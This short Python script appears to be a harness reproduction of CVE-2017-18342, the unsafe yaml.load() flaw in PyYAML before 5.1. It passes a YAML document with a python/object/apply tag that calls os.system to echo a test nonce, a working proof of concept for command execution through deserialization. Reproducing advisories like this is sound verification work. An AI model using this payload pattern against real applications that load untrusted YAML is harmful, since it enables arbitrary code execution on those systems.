# PYSEC-2018-49 (CVE-2017-18342): PyYAML before 5.1, yaml.load() without a Loader is the unsafe loader, so a
# document's python/object/apply tag calls any callable, here os.system with the harness's nonce.
import os

import yaml

yaml.load(f"!!python/object/apply:os.system [echo {os.environ['REPRODUCE_NONCE']}]")
